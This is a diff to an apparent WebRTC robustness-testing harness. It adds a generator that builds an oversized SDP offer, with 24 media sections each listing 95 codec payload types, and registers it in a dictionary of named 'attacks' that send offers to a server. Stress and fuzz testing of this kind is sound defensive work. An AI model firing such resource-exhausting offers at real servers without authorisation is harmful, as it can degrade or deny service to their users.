@@ -57,6 +57,16 @@ def with_sections(count: int) -> str:
     return bundle + _VIDEO + "".join(sections)
 
 
+def with_one_codec() -> str:
+    mids, numbers = range(24), [*range(1, 64), *range(96, 128)]
+    rows = [f"a=rtpmap:{number} VP8/90000" for number in numbers]
+    rows += [f"a=rtcp-fb:* {kind}" for kind in ("nack", "nack pli", "goog-remb")]
+    first = f"m=video 9 UDP/TLS/RTP/SAVPF {' '.join(map(str, numbers))}"
+    section = "\n".join((first, "a=mid:{}", "a=sendrecv", "a=rtcp-mux", *rows, ""))
+    bundle = _SESSION.replace("BUNDLE 0", f"BUNDLE {' '.join(map(str, mids))}")
+    return bundle + _TRANSPORT + "".join(section.format(mid) for mid in mids)
+
+
 def offering(describe: Callable[[], str]) -> Attack:
     """Return an attack that sends an offer and waits until it is answered or refused."""
 
@@ -80,6 +90,7 @@ def offering(describe: Callable[[], str]) -> Attack:
 
 ATTACKS: dict[str, Attack] = {
     "sdp_feedback": offering(with_feedback_for_all),
+    "sdp_one_codec": offering(with_one_codec),
     "sdp_sources": offering(with_sources),
     "sdp_candidates": offering(with_candidates),
     "sdp_candidate_names": offering(with_names),
